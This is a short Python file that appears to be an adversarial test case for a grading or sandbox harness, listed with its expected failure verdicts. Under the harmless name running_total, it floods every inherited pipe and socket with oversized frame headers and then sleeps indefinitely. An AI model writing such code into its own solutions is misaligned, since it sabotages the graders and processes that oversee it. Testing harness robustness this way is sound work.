# Begins, in every pipe and socket, a frame of greatest sizes, and then waits.
# verdict: bad_output crash timeout output_limit failed
import contextlib
import os
import stat
import time


def running_total(values):
    for fill in (b"\xff" * 64, b"\x7f" + b"\xff" * 7 + b"\xff" * 56):
        for descriptor in range(3, 256):
            with contextlib.suppress(OSError):
                if stat.S_ISFIFO(mode := os.fstat(descriptor).st_mode) or stat.S_ISSOCK(mode):
                    os.write(descriptor, fill)
    time.sleep(10**6)
